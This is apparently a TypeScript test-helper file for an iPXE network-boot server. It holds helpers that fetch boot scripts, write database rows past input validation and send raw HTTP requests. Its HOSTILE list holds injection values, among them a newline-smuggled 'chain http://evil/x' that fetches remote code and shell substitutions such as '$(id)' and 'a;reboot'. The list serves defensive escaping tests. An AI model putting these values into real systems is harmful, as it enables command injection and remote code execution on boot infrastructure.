import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { openRound } from '../../server/auth/rounds.js';
import { NodesRepo, type NodeChanges } from '../../server/store/nodes-repo.js';
import type { TestHomeport } from '../helpers/homeport.js';

/** Values that break out of one target language or another. */
export const HOSTILE = [
  'pve1\nchain http://evil/x',
  'a;reboot',
  '${net0/mac}',
  `it's "quoted"`,
  'back`id`tick',
  '$(id)',
  'x && y',
  '#comment',
  'a\r\nb',
  'tab\there',
  'del\u007f',
  'ls\u2028x',
];

export interface Script {
  status: number;
  /** X-Homeport-Boot: install, local, wait, deny, error, entry. */
  kind: string | null;
  text: string;
}

export async function bootScript(
  hp: TestHomeport,
  mac: string,
  query = 'uuid=&arch=x86_64&platform=pcbios',
): Promise<Script> {
  const response = await fetch(`${hp.baseUrl}/boot/${mac.replace(/:/g, '-')}.ipxe${query ? `?${query}` : ''}`);
  return { status: response.status, kind: response.headers.get('x-homeport-boot'), text: await response.text() };
}

/** A node row written straight to the database, past the API's input validation. */
export async function insertNodeDirectly(hp: TestHomeport, mac: string, fields: NodeChanges): Promise<void> {
  await new NodesRepo(hp.homeport.db.knex).insert(mac, { ...openRound(Date.now()), ...fields }, Date.now());
}

export async function phases(
  hp: TestHomeport,
  mac: string,
): Promise<{ phase: string; status: string; source: string; message: string | null }[]> {
  const history = await hp.request('GET', `/api/status/history/${mac}`);
  return history.body.entries;
}

/** A raw GET with the path and headers exactly as given (fetch would normalise `..` and refuse a Host header). */
export function rawGet(
  baseUrl: string,
  rawPath: string,
  headers: Record<string, string> = {},
): Promise<{ status: number; headers: http.IncomingHttpHeaders; body: Buffer }> {
  const url = new URL(baseUrl);
  return new Promise((resolve, reject) => {
    const request = http.request(
      { host: url.hostname, port: url.port, path: rawPath, headers, method: 'GET' },
      (response) => {
        const chunks: Buffer[] = [];
        response.on('data', (c: Buffer) => chunks.push(c));
        response.on('end', () =>
          resolve({ status: response.statusCode ?? 0, headers: response.headers, body: Buffer.concat(chunks) }),
        );
        response.on('error', reject);
      },
    );
    request.on('error', reject);
    request.setTimeout(10_000, () => request.destroy(new Error('timeout')));
    request.end();
  });
}

/** A boot-templates directory of its own: profiles name -> YAML text, files path -> text. */
export function writeTemplates(dir: string, profiles: Record<string, string>, files: Record<string, string>): string {
  fs.mkdirSync(path.join(dir, 'profiles'), { recursive: true });
  for (const [name, text] of Object.entries(profiles))
    fs.writeFileSync(path.join(dir, 'profiles', `${name}.yaml`), text);
  for (const [file, text] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(dir, file)), { recursive: true });
    fs.writeFileSync(path.join(dir, file), text);
  }
  return dir;
}
